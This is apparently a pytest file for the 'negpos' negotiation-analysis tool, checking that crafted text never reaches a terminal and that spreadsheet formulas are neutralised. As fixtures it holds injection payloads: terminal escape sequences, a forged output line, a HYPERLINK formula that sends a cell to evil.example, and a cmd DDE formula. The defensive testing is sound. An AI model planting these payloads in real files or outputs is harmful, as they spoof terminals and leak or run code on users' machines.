"""Injection: crafted text reaches no terminal, forges no line and runs in no spreadsheet.

A dataset is written with terminal attacks in every field the outputs show (escape sequences
that clear the screen, a bell, an OSC 8 link, bidirectional overrides, a C1 control, a line
break followed by a forged ``negpos:`` line), in its file name, and in the keys and ids of a
bad file. Every command is run on it in every format, and what it prints, on standard output
and standard error alike, must hold no control or format character but the line break.
Separately, every data frame neutralises cells a spreadsheet would run as formulas.
"""

from __future__ import annotations

import csv
import io
import json
import unicodedata
from collections.abc import Callable
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

import negpos
from negpos._cli.main import main
from negpos._render.frames import FORMULA_STARTS, neutralise_formula
from negpos._render.json import escape_invisible

if TYPE_CHECKING:
    import pandas as pd

#: What an attacker would type: clear the screen, ring, a hidden link, reversed text, a C1
#: control sequence introducer, and a line break followed by a line of negpos' own.
ATTACK = (
    "\x1b[2J\x1b[H\x07\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\"
    "\u202eevil\u2066\x9b31m\u200b\r\nnegpos: talks.yaml: ok (2 parties)"
)


def crafted(key: str) -> str:
    """Text for one field, carrying the attack."""
    return f"{key} {ATTACK}"


def invisible(text: str) -> list[str]:
    """The control and format characters of ``text``, the line break aside."""
    return sorted(
        {
            f"U+{ord(c):04X}"
            for c in text
            if c != "\n" and unicodedata.category(c) in ("Cc", "Cf", "Zl", "Zp")
        }
    )


def memorandum(party: str, army: float, land: str) -> dict[str, Any]:
    """A memorandum with crafted notes, sources and titles."""
    return {
        "party": party,
        "title": crafted("memo"),
        "positions": [
            {
                "issue": "army",
                "stance": {"kind": "numeric", "max": army},
                "note": crafted("note"),
                "firmness": "red_line",
                "sources": [{"document": crafted("document"), "quote": crafted("quote")}],
            },
            {"issue": "land", "stance": {"kind": "set", land: ["north"]}, "firmness": "red_line"},
            {
                "issue": "choice",
                "stance": {"kind": "categorical", "accepts": ["left" if party == "a" else "right"]},
            },
        ],
    }


DATA: dict[str, Any] = {
    "format": 1,
    "title": crafted("title"),
    "parties": [{"id": "a", "name": crafted("Alpha")}, {"id": "b", "name": crafted("Beta")}],
    "issues": [
        {
            "id": "land",
            "kind": "set",
            "title": crafted("land"),
            "items": [{"id": "north", "label": crafted("north")}, {"id": "south"}],
        },
        {
            "id": "army",
            "kind": "numeric",
            "title": crafted("army"),
            "unit": crafted("unit"),
            "bounds": [0, 1000000],
        },
        {
            "id": "choice",
            "kind": "categorical",
            "title": crafted("choice"),
            "options": [{"id": "left", "label": crafted("left")}, {"id": "right"}],
        },
    ],
    "rounds": [
        {
            "id": "r1",
            "date": "2025-01-01",
            "label": crafted("round one"),
            "venue": crafted("venue"),
            "memoranda": [memorandum("a", 500000, "requires"), memorandum("b", 900000, "forbids")],
        },
        {
            "id": "r2",
            "date": "2025-02-01",
            "label": crafted("round two"),
            "memoranda": [memorandum("a", 600000, "requires"), memorandum("b", 800000, "forbids")],
        },
    ],
}


@pytest.fixture
def talks(tmp_path: Path) -> Path:
    """The crafted dataset, in a file whose own name carries an attack."""
    path = tmp_path / "talks\x1b[2J\u202e\x07.json"
    path.write_text(json.dumps(DATA, ensure_ascii=False), encoding="utf-8")
    return path


RUNS: dict[str, list[str]] = {
    "validate": ["validate"],
    "report": ["report"],
    "report terminal": ["report", "--format", "terminal"],
    "report json": ["report", "--format", "json"],
    "report html": ["report", "--format", "html"],
    "report negotiation": ["report", "--negotiation", "--format", "terminal"],
    "compare terminal": ["compare", "--format", "terminal"],
    "changes": ["changes"],
    "changes terminal": ["changes", "--format", "terminal"],
    "explore": ["explore"],
    "explore markdown": ["explore", "--format", "markdown"],
    "explore json": ["explore", "--format", "json"],
}


@pytest.mark.parametrize("name", RUNS)
def test_no_command_prints_an_invisible_character(
    talks: Path, name: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """Whatever it prints, in every format and on both streams, holds no control or format character."""
    assert 0 == main([*RUNS[name], str(talks)])
    out = capsys.readouterr()
    assert [] == invisible(out.out)
    assert [] == invisible(out.err)
    assert all(line.startswith("negpos: ") for line in out.err.splitlines())


def test_a_file_read_from_a_crafted_path_is_reported_on_one_line(
    talks: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The verdict of validate on a crafted file name is one clean line; no line is forged."""
    assert 0 == main(["validate", str(talks)])
    lines = capsys.readouterr().out.splitlines()
    assert 1 == len(lines)
    assert lines[0].endswith(": ok (2 parties, 3 issues, 2 rounds, 12 positions)")


def test_a_crafted_key_cannot_forge_a_verdict(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """An unknown key that holds a line break and a fake "ok" gives one error line and no verdict."""
    bad = tmp_path / "bad.json"
    key = "x\x1b[2J\nnegpos: talks.yaml: ok (2 parties, 3 issues, 2 rounds, 6 positions)"
    bad.write_text(json.dumps({**DATA, key: 1, "title": "T"}), encoding="utf-8")
    assert 2 == main(["validate", str(bad)])
    out = capsys.readouterr()
    assert "" == out.out
    lines = out.err.splitlines()
    assert 1 == len(lines)
    assert lines[0].startswith(f"negpos: error: {bad}:1: 'x\\x1b[2J\\nnegpos: talks.yaml")
    assert lines[0].endswith("unknown field")


@pytest.mark.parametrize(
    "argv",
    [
        ["report", "--round", "r\x1b[2J\u202e"],
        ["report", "--parties", "a", "\x07b"],
        ["explore", "--goal", "issue=\x1b]8;;x\x1b\\"],
        ["report", "--format", "\x1b[2Jhtml"],
        ["report", "--tabled\x1b[2J"],
    ],
    ids=["round", "party", "goal", "format", "option"],
)
def test_crafted_arguments_are_quoted_safely(
    talks: Path, argv: list[str], capsys: pytest.CaptureFixture[str]
) -> None:
    """An argument that names nothing is refused (or finds nothing) and is shown harmlessly."""
    assert main([*argv, str(talks)]) in (1, 2)
    err = capsys.readouterr().err
    assert [] == invisible(err)
    assert all(line.startswith(("negpos: ", "usage: ", " ")) for line in err.splitlines())


def test_a_megabyte_id_gives_a_short_message(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """An id of a million characters is quoted in a bounded excerpt, not echoed whole."""
    bad = tmp_path / "big.json"
    bad.write_text(
        json.dumps({**DATA, "parties": [{"id": "x" * 1_000_000, "name": "X"}]}), encoding="utf-8"
    )
    assert 2 == main(["validate", str(bad)])
    err = capsys.readouterr().err
    assert max(len(line) for line in err.splitlines()) < 500
    assert "(1,000,000 characters)" in err


def test_the_terminal_tables_show_the_text_without_its_controls(talks: Path) -> None:
    """The terminal tables keep the words of a crafted title and drop only its invisible ones."""
    from negpos._render.terminal import _text, print_result

    comparison = negpos.load(talks).compare("a", "b")
    buffer = io.StringIO()
    print_result(comparison, buffer)
    assert [] == invisible(buffer.getvalue())
    shown = _text(comparison, 400, color=True)  # wide enough for the title on one line
    assert [] == invisible(shown.replace("\x1b[", ""))
    assert "army [2J[H]8;;https://evil.example\\click]8;;\\evil31m" in shown


def test_json_output_escapes_invisible_characters_and_keeps_them() -> None:
    """JSON writes invisible characters as escapes, so it is safe to print and reads back the same."""
    neg = negpos.parse(DATA)
    text = negpos.render(neg.compare("a", "b"), "json")
    assert [] == invisible(text)
    assert neg.issue("army").title == json.loads(text)["rows"][1]["title"]


@given(st.text())
def test_escaping_json_changes_no_data(text: str) -> None:
    """Escaping the invisible characters of any JSON text gives JSON that reads as the same data."""
    dumped = json.dumps({"t": text, "k": [text]}, ensure_ascii=False)
    escaped = escape_invisible(dumped)
    assert [] == invisible(escaped)
    assert json.loads(dumped) == json.loads(escaped)


# --- spreadsheets ----------------------------------------------------------------------------

#: Text that a spreadsheet would run: a link that fetches a page, a command, a sum, a lookup.
FORMULAS = [
    '=HYPERLINK("https://evil.example?leak="&A1,"see source")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


def formula_data() -> dict[str, Any]:
    """DATA with a formula at the start of every text field a frame shows."""
    texts = iter(FORMULAS * 20)

    def replace(node: Any) -> Any:
        if isinstance(node, dict):
            return {
                k: next(texts) if k in ("title", "label", "unit", "name") else replace(v)
                for k, v in node.items()
            }
        if isinstance(node, list):
            return [replace(v) for v in node]
        return node

    data: dict[str, Any] = replace(DATA)
    for issue, formula in zip(data["issues"], FORMULAS, strict=False):
        issue["title"] = formula
    return data


FORMULA_NEG = negpos.parse(formula_data())
FRAMES: dict[str, Callable[..., pd.DataFrame]] = {
    "comparison": FORMULA_NEG.compare("a", "b").to_frame,
    "changes": FORMULA_NEG.changes("a").to_frame,
    "trajectory": FORMULA_NEG.trajectory("a", "b").to_frame,
    "matrix": FORMULA_NEG.matrix().to_frame,
}


def text_cells(frame: pd.DataFrame) -> list[str]:
    """Every text cell of a frame."""
    return [v for column in frame.columns for v in frame[column] if isinstance(v, str)]


@pytest.mark.parametrize("name", FRAMES)
def test_frames_neutralise_formulas(name: str, tmp_path: Path) -> None:
    """No text cell of a frame, nor of its CSV, starts as a formula; the quoted text stays whole."""
    pytest.importorskip("pandas")
    frame = FRAMES[name]()
    cells = text_cells(frame)
    assert [] == [c for c in cells if c.startswith(FORMULA_STARTS)]
    frame.to_csv(tmp_path / "out.csv", index=False)
    with (tmp_path / "out.csv").open(newline="", encoding="utf-8") as handle:
        back = [cell for row in csv.reader(handle) for cell in row]
    assert [] == [c for c in back if c.startswith(FORMULA_STARTS)]
    raw = FRAMES[name](formula_safe=False)
    assert [neutralise_formula(c) for c in text_cells(raw)] == cells


def test_the_titles_are_kept_raw_on_request() -> None:
    """formula_safe=False keeps a title that starts with '=' exactly as written."""
    pytest.importorskip("pandas")
    frame = FRAMES["comparison"](formula_safe=False)
    titles = set(frame.title)
    assert {FORMULA_NEG.issue(i).title for i in frame.issue} == titles
    assert any(t.startswith("=") for t in titles)


@given(st.text())
def test_neutralising_is_idempotent_and_only_prefixes(text: str) -> None:
    """A cell is either left alone or gets one apostrophe, and never starts as a formula after."""
    once = neutralise_formula(text)
    assert isinstance(once, str)
    assert once in (text, "'" + text)
    assert not once.startswith(FORMULA_STARTS)
    assert once == neutralise_formula(once)


def test_a_long_message_line_keeps_both_ends(
    talks: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A verdict on a path of thousands of characters is cut in the middle, so that "ok" still shows."""
    deep = talks.parent.joinpath(*["d" * 200] * 15)
    deep.mkdir(parents=True)
    path = deep / "talks.json"
    path.write_text(json.dumps(DATA), encoding="utf-8")
    assert 0 == main(["validate", str(path)])
    line = capsys.readouterr().out.rstrip("\n")
    assert len(line) < 2_100
    assert line.startswith(str(talks.parent))
    assert "characters left out" in line
    assert line.endswith("talks.json: ok (2 parties, 3 issues, 2 rounds, 12 positions)")
